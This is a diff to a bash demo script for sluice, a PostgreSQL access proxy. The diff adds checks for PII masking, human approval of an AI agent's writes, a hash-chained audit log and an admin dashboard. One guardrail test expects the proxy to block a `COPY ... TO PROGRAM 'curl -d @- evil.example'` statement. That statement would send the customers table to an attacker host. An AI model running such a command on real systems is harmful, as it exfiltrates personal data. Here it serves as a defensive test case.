@@ -12,13 +12,15 @@
 # with DEMO_PG_PORT, DEMO_PORT, DEMO_ADMIN_PORT). Secrets are the documented demo ones of
 # examples/demo.yaml. Exit status 0 when every check passed, 1 otherwise.
 #
-# To add a section (guardrails, masking, audit, approvals...): write a section_* function and
-# list it in SECTIONS below.
+# Each run starts sluice with a fresh state store (demo-run/sluice.db: audit trail, approval
+# requests and grants) and audit copy (demo-run/audit.jsonl); PostgreSQL's data is reloaded.
+# To add a section: write a section_* function and list it in SECTIONS below.
 set -euo pipefail
 
 ROOT=$(cd "$(dirname "$0")/.." && pwd)
 RUN=$ROOT/demo-run
 SLUICE=${SLUICE_BIN:-$ROOT/build/sluice}
+SLUICE_REL=${SLUICE_BIN:-build/sluice} # as shown in the printed commands
 PGBIN=/usr/lib/postgresql/15/bin
 export PATH=$PGBIN:$PATH
 
@@ -27,12 +29,16 @@ APP_PASSWORD=app-demo-password # upstream role app, handed to sluice via SHOP_DB
 ALICE_PASSWORD=alice-demo-password
 ETL_TOKEN=etl-demo-token
 COPILOT_TOKEN=copilot-demo-token
+DANA_PASSWORD=dana-demo-password # dba and dpo: approver, admin, sees raw values
 
 SECTIONS=(
   section_connect_identities
   section_auth_refused
   section_guardrails
-  section_not_yet
+  section_masking
+  section_approvals
+  section_audit
+  section_dashboard
   section_try_it
 )
 
@@ -62,6 +68,24 @@ run_psql() {
   local who=$1 secret=$2 sql=$3
   printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
   psql -X -P pager=off "$(conninfo "$who" "$secret")" -c "$sql"
+}
+
+# Like run_psql, but captures stdout and stderr into OUT; returns psql's status.
+OUT=
+capture_psql() {
+  local who=$1 secret=$2 sql=$3 rc=0
+  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
+  OUT=$(timeout 60 psql -X -P pager=off -v VERBOSITY=default "$(conninfo "$who" "$secret")" \
+    -c "$sql" 2>&1) || rc=$?
+  printf '%s\n' "$OUT"
+  return "$rc"
+}
+
+# sluice CLI: prints the command (config path shortened), then runs it.
+run_sluice() {
+  local shown="$*"
+  printf '%s$ sluice %s%s\n' "$D" "${shown//$RUN/demo-run}" "$N"
+  "$SLUICE" "$@"
 }
 
 sluice_pid() { [ -f "$RUN/sluice.pid" ] && cat "$RUN/sluice.pid"; }
@@ -122,6 +146,7 @@ setup_sluice() {
     "$ROOT/examples/demo.yaml" >"$RUN/sluice.yaml"
   export SHOP_DB_PASSWORD=$APP_PASSWORD
   "$SLUICE" check -c "$RUN/sluice.yaml" || die "sluice check rejected $RUN/sluice.yaml"
+  rm -f "$RUN"/sluice.db "$RUN"/sluice.db-wal "$RUN"/sluice.db-shm "$RUN"/audit.jsonl
   : >"$RUN/sluice.log"
   nohup "$SLUICE" serve -c "$RUN/sluice.yaml" >>"$RUN/sluice.log" 2>&1 </dev/null &
   echo $! >"$RUN/sluice.pid"
@@ -145,6 +170,7 @@ section_connect_identities() {
   title "One database, three identities"
   say "Clients put the target in dbname and their identity in user; the password carries"
   say "their secret. Upstream, sluice logs in as role app with the vaulted password."
+  say "(alice is not in an unmask group, so personal data reaches her masked: see Masking.)"
   say
   say "${B}alice@corp.com${N} (human, group engineers, password):"
   if run_psql alice@corp.com "$ALICE_PASSWORD" \
@@ -215,9 +241,9 @@ section_guardrails() {
   expect_blocked etl "$ETL_TOKEN" "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil.example'" \
     copy_program
   say
-  say "Rules in the config add to them: here AI agents may only read."
-  expect_blocked copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 7" \
-    agents-read-only
+  say "Rules in the config add to them: here AI agents may not run DDL (and their writes"
+  say "need a person's approval: see Approvals)."
+  expect_blocked copilot "$COPILOT_TOKEN" "CREATE TABLE scratch (id int)" agents-no-ddl
   say
   say "The same update by a person is fine:"
   if run_psql alice@corp.com "$ALICE_PASSWORD" "UPDATE orders SET status = 'shipped' WHERE id = 7"; then
@@ -230,10 +256,142 @@ section_guardrails() {
     "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d" || true
 }
 
-section_not_yet() {
-  title "Not in this build yet"
-  say "Masking of personal data (note the raw emails, cards and SSNs above), the audit log"
-  say "and approvals are not implemented yet; this demo grows a section for each as it lands."
+section_masking() {
+  title "Masking personal data"
+  say "With no configuration, sluice masks emails, card numbers, SSNs, phone numbers, IBANs,"
+  say "IP addresses and secrets in results: found by column name and inside free text (notes)."
+  say "demo.yaml adds one custom detector (loyalty ids, LOY-nnnnnnnn) and lets group dpo see"
+  say "raw values."
+  say
+  say "${B}copilot${N} (agent, not in an unmask group):"
+  local sql="SELECT * FROM customers ORDER BY id LIMIT 3" raw leaked=()
+  if capture_psql copilot "$COPILOT_TOKEN" "$sql"; then
+    for raw in alice.nguyen@example.com '4242 4242 4242 4242' 160-52-9687 '415-555-0100' \
+      alice.n.home@example.com LOY-20240117 '212-555-0101' 'DE89 3704'; do
+      grep -qF -- "$raw" <<<"$OUT" && leaked+=("$raw")
+    done
+    if [ "${#leaked[@]}" -eq 0 ] && grep -qF 'a***@example.com' <<<"$OUT" &&
+      grep -qF '****-****-****-4242' <<<"$OUT"; then
+      ok "copilot sees masked values, sentences keep their non-sensitive words"
+    else bad "copilot saw raw values: ${leaked[*]:-(expected masked forms missing)}"; fi
+  else bad "copilot's SELECT failed"; fi
+  say
+  say "${B}dana@corp.com${N} (human, group dpo, listed in masking.unmask.groups):"
+  if capture_psql dana@corp.com "$DANA_PASSWORD" "$sql"; then
+    if grep -qF alice.nguyen@example.com <<<"$OUT" && grep -qF LOY-20240117 <<<"$OUT"; then
+      ok "dana sees the raw values"
+    else bad "dana's values were masked"; fi
+  else bad "dana's SELECT failed"; fi
+}
+
+section_approvals() {
+  title "Approvals: a person says yes, a grant remembers it"
+  say "copilot's writes go to review. Agents get defer mode by default: the statement is"
+  say "refused at once with a request id, and runs once approved."
+  local id=""
+  if capture_psql copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 7"; then
+    bad "copilot's UPDATE ran without approval"
+  else
+    id=$(grep -o 'req_[A-Za-z0-9]*' <<<"$OUT" | head -n 1 || true)
+    if [ -n "$id" ] && grep -q 'approval required' <<<"$OUT"; then ok "refused with request $id"
+    else bad "refused, but not with an approval request"; fi
+  fi
+  [ -n "$id" ] || return 0
+  say
+  say "An approver sees it (CLI here; also the dashboard, the API, Slack or a webhook):"
+  run_sluice approvals -c "$RUN/sluice.yaml" list || bad "sluice approvals list failed"
+  if run_sluice approvals -c "$RUN/sluice.yaml" approve "$id" --as dana@corp.com; then
+    ok "approved by dana@corp.com"
+  else bad "sluice approvals approve $id failed"; fi
+  say
+  say "The approval left a grant: the same statement (same fingerprint), other literals:"
+  sleep 0.5 # the server notices a decision made by another process within about 0.2 s
+  if capture_psql copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 8"; then
+    ok "copilot's UPDATE ran under the grant"
+  else bad "copilot's UPDATE was refused after approval"; fi
+  run_sluice approvals -c "$RUN/sluice.yaml" grants || bad "sluice approvals grants failed"
+  say
+  say "A different statement asks again:"
+  if capture_psql copilot "$COPILOT_TOKEN" "DELETE FROM orders WHERE id = 9"; then
+    bad "copilot's DELETE ran without approval"
+  elif grep -q 'approval required' <<<"$OUT"; then ok "new fingerprint, new request"
+  else bad "refused, but not with an approval request"; fi
+  say
+  say "People get wait mode: alice's edit of a customer record waits (a NOTICE names the"
+  say "request) while a DBA approves it from another shell, here after 2 seconds:"
+  (
+    sleep 2
+    for _ in $(seq 1 50); do
+      wid=$("$SLUICE" approvals -c "$RUN/sluice.yaml" list --json 2>/dev/null | tr -d ' \t\n' |
+        grep -o '"id":"req_[A-Za-z0-9]*","state":"pending","identity":"alice@corp.com"' |
+        grep -o 'req_[A-Za-z0-9]*' | head -n 1 || true)
+      [ -n "$wid" ] && break
+      sleep 0.2
+    done
+    if [ -n "$wid" ]; then
+      printf '%s$ sluice approvals -c demo-run/sluice.yaml approve %s --as dana@corp.com   (background)%s\n' "$D" "$wid" "$N"
+      "$SLUICE" approvals -c "$RUN/sluice.yaml" approve "$wid" --as dana@corp.com
+    fi
+  ) &
+  local approver=$! sql="UPDATE customers SET phone = '+1 415-555-0199' WHERE id = 1"
+  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo alice@corp.com "$ALICE_PASSWORD")" "$sql" "$N"
+  # Not captured: the NOTICE shows at once, the result once the approval arrives.
+  if timeout 60 psql -X -P pager=off "$(conninfo alice@corp.com "$ALICE_PASSWORD")" -c "$sql" 2>&1 |
+    tee "$RUN/wait.out"; then
+    if grep -q 'approval required' "$RUN/wait.out"; then ok "alice waited, then her UPDATE ran"
+    else bad "alice's UPDATE ran without asking"; fi
+  else bad "alice's UPDATE failed"; fi
+  rm -f "$RUN/wait.out"
+  wait "$approver" || true
+}
+
+section_audit() {
+  title "Audit: every statement, hash-chained"
+  say "Every session and statement is in the state store (demo-run/sluice.db) and in"
+  say "demo-run/audit.jsonl: who, from where, the statement normalized (literals replaced by"
+  say "\$n), decision and rule, rows, masked values per detector, a digest of the rows sent."
+  sleep 0.3 # reads are committed within 100 ms
+  run_sluice audit search -c "$RUN/sluice.yaml" --identity copilot --kind statement --limit 5 ||
+    bad "sluice audit search failed"
+  say "(without --kind: also sessions, approval requests and decisions, grant use)"
+  say
+  say "The event of copilot's masked SELECT, in demo-run/audit.jsonl (excerpt):"
+  local ev
+  ev=$(grep -F '"identity":"copilot"' "$RUN/audit.jsonl" | grep -F '"masked":' | tail -n 1 |
+    grep -o '"statement":"[^"]*"\|"rows":[0-9]*\|"masked":{[^}]*}\|"digest":"[^"]*"' | paste -sd, - || true)
+  if [ -n "$ev" ]; then say "  {$ev, ...}"; ok "masked values counted per detector"
+  else bad "no audit event with masked counts for copilot"; fi
+  say
+  say "The events form a hash chain; verify recomputes it (exit 0 only when intact):"
+  if run_sluice audit verify -c "$RUN/sluice.yaml"; then ok "audit chain intact"
+  else bad "sluice audit verify failed"; fi
+  say
+  say "No raw literal reaches the audit (alice's new phone number was in her UPDATE):"
+  if [ ! -s "$RUN/audit.jsonl" ]; then bad "demo-run/audit.jsonl is empty"
+  elif grep -qF '415-555-0199' "$RUN/audit.jsonl" "$RUN"/sluice.db* "$RUN/sluice.log"; then
+    bad "the raw phone number is in the audit or the log"
+  else ok "not in audit.jsonl, sluice.db or sluice.log"; fi
+}
+
+section_dashboard() {
+  title "Dashboard, API and metrics"
+  local url="http://127.0.0.1:$ADMIN_PORT"
+  local bearer="dana@corp.com:$DANA_PASSWORD"
+  say "Dashboard: $url/   sign in with the token  $bearer"
+  say "(dana is in admin.groups and approvals.approvers.groups; a password identity signs in"
+  say "with NAME:PASSWORD, an API token or an OIDC JWT as it is)."
+  say "copilot's DELETE from the Approvals section is still pending there: approve or deny it."
+  printf '%s$ curl -s -H "Authorization: Bearer %s" %s/api/v1/whoami%s\n' "$D" "$bearer" "$url" "$N"
+  local who
+  if who=$(curl -sf -H "Authorization: Bearer $bearer" "$url/api/v1/whoami"); then
+    say "$who"
+    ok "the admin API accepts dana"
+  else bad "GET /api/v1/whoami failed"; fi
+  printf '%s$ curl -s %s/metrics | grep sluice_statements%s\n' "$D" "$url" "$N"
+  local m
+  m=$(curl -s "$url/metrics" | grep '^sluice_statements' || true)
+  if [ -n "$m" ]; then say "$m"; ok "Prometheus metrics at $url/metrics"
+  else bad "no sluice_statements metrics"; fi
 }
 
 section_try_it() {
@@ -241,6 +399,10 @@ section_try_it() {
   say "  psql \"$(conninfo alice@corp.com "$ALICE_PASSWORD")\""
   say "  psql \"$(conninfo etl "$ETL_TOKEN")\""
   say "  psql \"$(conninfo copilot "$COPILOT_TOKEN")\""
+  say "  psql \"$(conninfo dana@corp.com "$DANA_PASSWORD")\"     (dba, dpo: raw values)"
+  say "Dashboard: http://127.0.0.1:$ADMIN_PORT/ (token dana@corp.com:$DANA_PASSWORD)"
+  say "Approvals: $SLUICE_REL approvals -c demo-run/sluice.yaml list"
+  say "Audit:     $SLUICE_REL audit tail -c demo-run/sluice.yaml --follow"
   say "PostgreSQL directly (bypassing sluice):"
   say "  psql \"host=127.0.0.1 port=$PG_PORT dbname=shop user=app password=$APP_PASSWORD\""
   say "Log: tail -f demo-run/sluice.log     Stop: scripts/demo.sh stop"
